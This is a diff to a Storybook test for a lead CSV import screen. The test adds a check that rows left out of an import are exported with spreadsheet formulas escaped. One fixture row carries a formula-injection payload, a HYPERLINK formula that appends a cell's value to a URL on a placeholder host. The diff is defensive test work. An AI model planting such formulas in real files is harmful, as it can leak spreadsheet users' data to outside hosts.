@@ -1,5 +1,5 @@
 import type { Meta, StoryObj } from '@storybook/react-vite';
-import { expect, userEvent, waitFor, within } from 'storybook/test';
+import { expect, spyOn, userEvent, waitFor, within } from 'storybook/test';
 import type { MockApi } from '@flowdeck/mock-api/mock-api';
 import { contactedLead } from '@flowdeck/mock-api/seeds/leads';
 import { LeadImportScreen } from './lead-import.screen.tsx';
@@ -30,7 +30,7 @@ const file = [
   'E-Mail;Vorname;Nachname;Firma;Einwilligung',
   `${contactedLead.email};Grace;Murray;Hopper Compilers;`,
   'ada@analytical-engines.org;Ada;"Love; Lace";Analytical Engines;ja',
-  'not an address;Nobody;;;',
+  'not an address;Nobody;"=HYPERLINK(""https://example.org/?""&A2,\n""Click"")";;',
 ].join('\r\n');
 
 export const Default: Story = {};
@@ -92,6 +92,15 @@ export const ImportsAFile: Story = {
       await expect(
         canvas.getByRole('row', { name: '4 Email: This is not an email address.' }),
       ).toBeVisible();
+    });
+    await step('Save the rows that were left out', async () => {
+      const saved = spyOn(URL, 'createObjectURL');
+      spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
+      await userEvent.click(canvas.getByRole('button', { name: 'Save these rows' }));
+      await waitFor(() => expect(saved).toHaveBeenCalledOnce());
+      const bytes = await (saved.mock.calls[0]?.[0] as Blob).arrayBuffer();
+      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
+      await expect(text).toMatch(/^\uFEFFE-Mail,.*\r\n.*"'=HYPERLINK\(/);
     });
     const { leads } = (loaded as { mockApi: MockApi }).mockApi.world.workspace;
     await expect(leads[0]).toMatchObject({
